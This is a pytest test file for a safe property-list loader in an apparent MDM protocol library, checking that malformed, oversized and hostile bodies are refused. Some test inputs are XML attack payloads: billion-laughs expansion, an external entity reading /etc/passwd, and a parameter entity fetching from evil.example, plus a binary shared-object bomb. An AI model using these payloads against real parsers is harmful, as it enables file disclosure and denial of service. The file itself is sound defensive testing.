"""Safe plist loading: every kind of hostile or broken body gets a PlistError."""

from __future__ import annotations

import datetime as dt
import plistlib

import pytest

from mdm_protocol import plist

GOOD = {"MessageType": "Authenticate", "UDID": "abc", "Count": 3, "Flag": True, "Blob": b"\x00\x01"}


def _bplist(objects: list[bytes], top: int = 0) -> bytes:
    """Assemble a binary plist from encoded objects (1-byte offsets and refs)."""
    body = b"bplist00"
    offsets = []
    for obj in objects:
        offsets.append(len(body))
        body += obj
    table_at = len(body)
    size = 2 if table_at > 255 else 1
    body += b"".join(o.to_bytes(size, "big") for o in offsets)
    trailer = b"\x00" * 6 + bytes([size, 1]) + len(objects).to_bytes(8, "big")
    return body + trailer + top.to_bytes(8, "big") + table_at.to_bytes(8, "big")


@pytest.mark.parametrize("fmt", [plistlib.FMT_XML, plistlib.FMT_BINARY])
def test_loads_xml_and_binary(fmt):
    assert plist.load_dict(plistlib.dumps(GOOD, fmt=fmt)) == GOOD


def test_dump_round_trips_as_xml():
    data = plist.dump({"Command": {"RequestType": "DeviceLock"}, "CommandUUID": "x"})
    assert data.startswith(b"<?xml")
    assert plist.load_dict(data)["Command"]["RequestType"] == "DeviceLock"


def test_size_limit_checked_before_parsing():
    ten_mb = b"<plist><string>" + b"A" * (10 * 1024 * 1024) + b"</string></plist>"
    with pytest.raises(plist.PlistTooLarge, match="over the limit"):
        plist.load(ten_mb)
    with pytest.raises(plist.PlistTooLarge):
        plist.load(plistlib.dumps(GOOD), max_bytes=20)


@pytest.mark.parametrize(
    "body, reason",
    [
        (b"", "empty"),
        (b"   \n", "empty"),
        (plistlib.dumps(GOOD)[:-40], "malformed XML"),
        (plistlib.dumps(GOOD, fmt=plistlib.FMT_BINARY)[:-10], "malformed binary"),
        (b"bplist00garbage", "malformed binary"),
        (b"not a plist at all", "malformed XML"),
        (b"<plist><dict><key>a</key><integer>x</integer></dict></plist>", "malformed XML"),
        (b"<plist><dict><key>a</key><date>yesterday</date></dict></plist>", "invalid date"),
        (b"<plist><dict><key>a</key><data>Base64=</data></dict></plist>", "base64"),
        (b"<plist><dict><key>a</key></dict></plist>", "missing value"),
        (b"<plist><dict><string>x</string></dict></plist>", "malformed"),
        (b"<plist></plist>", "no value"),
        (b"\xff\xfe\x00garbage", "malformed"),
    ],
)
def test_malformed_bodies_are_refused_with_a_reason(body, reason):
    with pytest.raises(plist.PlistError, match=reason):
        plist.load(body)


@pytest.mark.parametrize(
    "body",
    [
        # billion laughs
        b'<?xml version="1.0"?><!DOCTYPE plist [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
        b"<plist><string>&b;</string></plist>",
        # external entity
        b'<?xml version="1.0"?><!DOCTYPE plist [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b"<plist><string>&x;</string></plist>",
        # parameter entity
        b'<!DOCTYPE plist [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><plist><true/></plist>',
        # entity declaration with odd case/whitespace still refused by the parser
        b'<!doctype plist [ <!entity a "b"> ]><plist><true/></plist>',
    ],
)
def test_entity_tricks_are_refused(body):
    with pytest.raises(plist.PlistError):
        plist.load(body)


def test_utf16_entity_declaration_refused_by_the_parser_too():
    body = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE plist [<!ENTITY a "b">]><plist><string>&a;</string></plist>'
    with pytest.raises(plist.PlistError):
        plist.load(body.encode("utf-16"))


def test_apple_doctype_is_accepted():
    assert plist.load(plistlib.dumps(GOOD)) == GOOD  # plistlib writes Apple's DOCTYPE
    assert b"<!DOCTYPE plist PUBLIC" in plistlib.dumps(GOOD)


def test_deep_nesting_refused():
    body = b"<plist>" + b"<array>" * 100 + b"</array>" * 100 + b"</plist>"
    with pytest.raises(plist.PlistError, match="nested deeper"):
        plist.load(body)
    assert plist.load(b"<plist>" + b"<array>" * 10 + b"</array>" * 10 + b"</plist>") == [[[[[[[[[[]]]]]]]]]]


def test_binary_reference_cycle_refused():
    self_ref_array = _bplist([b"\xa1\x00"])  # array holding itself
    with pytest.raises(plist.PlistError, match="cycle|deep"):
        plist.load(self_ref_array)


def test_binary_shared_object_bomb_refused():
    # four levels of 100-element arrays sharing one child: 100**3 leaves from ~400 bytes
    objects = [b"\xaf\x10\x64" + bytes([i + 1]) * 100 for i in range(3)] + [b"\x51x"]
    body = _bplist(objects)
    assert len(body) < 1000
    with pytest.raises(plist.PlistError, match="more than"):
        plist.load(body)


def test_wide_but_legitimate_structures_load():
    apps = [{"Identifier": f"com.example.app{i}", "Name": f"App {i}", "Version": "1.0"} for i in range(2000)]
    assert len(plist.load_dict(plistlib.dumps({"InstalledApplicationList": apps}))["InstalledApplicationList"]) == 2000


def test_keyed_archive_uid_refused():
    body = plistlib.dumps({"x": plistlib.UID(1)}, fmt=plistlib.FMT_BINARY)
    with pytest.raises(plist.PlistError, match="unsupported type"):
        plist.load(body)


def test_top_level_must_be_a_dictionary():
    with pytest.raises(plist.PlistError, match="not an array"):
        plist.load_dict(plistlib.dumps([1, 2]))


def test_dates_load():
    when = dt.datetime(2024, 5, 1, 12, 0)
    assert plist.load_dict(plistlib.dumps({"d": when}))["d"] == when


def test_non_bytes_input_is_a_programming_error():
    with pytest.raises(TypeError):
        plist.load("<plist/>")  # type: ignore[arg-type]


def test_nul_characters_are_refused():
    for fmt in (plistlib.FMT_XML, plistlib.FMT_BINARY):
        body = plistlib.dumps({"a": "x\x00y"}, fmt=fmt) if fmt == plistlib.FMT_BINARY else (
            b"<plist><dict><key>a</key><string>x&#0;y</string></dict></plist>")
        with pytest.raises(plist.PlistError):
            plist.load(body)
    with pytest.raises(plist.PlistError, match="key"):
        plist.load(plistlib.dumps({"a\x00": 1}, fmt=plistlib.FMT_BINARY))


def _utf16_string(text_units: bytes) -> bytes:
    """A binary plist holding one UTF-16 string given as raw big-endian code units."""
    return _bplist([bytes([0x60 | (len(text_units) // 2)]) + text_units])


@pytest.mark.parametrize(
    "body, reason",
    [
        (b"<plist><dict><key>a</key><integer>18446744073709551616</integer></dict></plist>", "64 bits"),
        (b"<plist><dict><key>a</key><integer>-9223372036854775809</integer></dict></plist>", "64 bits"),
        (b"<plist><dict><key>a</key><real>nan</real></dict></plist>", "not a number"),
        (b"<plist><dict><key>a</key><real>inf</real></dict></plist>", "not a number"),
        (b"<plist><dict><key>a</key><real>-infinity</real></dict></plist>", "not a number"),
        (plistlib.dumps({"a": float("nan")}, fmt=plistlib.FMT_BINARY), "not a number"),
        (plistlib.dumps({"a": ["x\x01y"]}, fmt=plistlib.FMT_BINARY), "control character"),
        (plistlib.dumps({"a\x1b": 1}, fmt=plistlib.FMT_BINARY), "control character"),
        (_utf16_string(b"\xd8\x00\x00a"), "surrogate|malformed"),
    ],
)
def test_values_no_xml_plist_can_hold_are_refused(body, reason):
    """Huge integers, NaN/infinity, control characters, lone surrogates: no device sends them."""
    with pytest.raises(plist.PlistError, match=reason):
        plist.load(body)


def test_the_edges_of_what_devices_send_still_load():
    value = plist.load_dict(plistlib.dumps(
        {"big": 2**64 - 1, "small": -(2**63), "level": 0.5, "text": "tab\there\nline\r\n", "emoji": "💥"}))
    assert value["big"] == 2**64 - 1 and value["text"].startswith("tab\t")
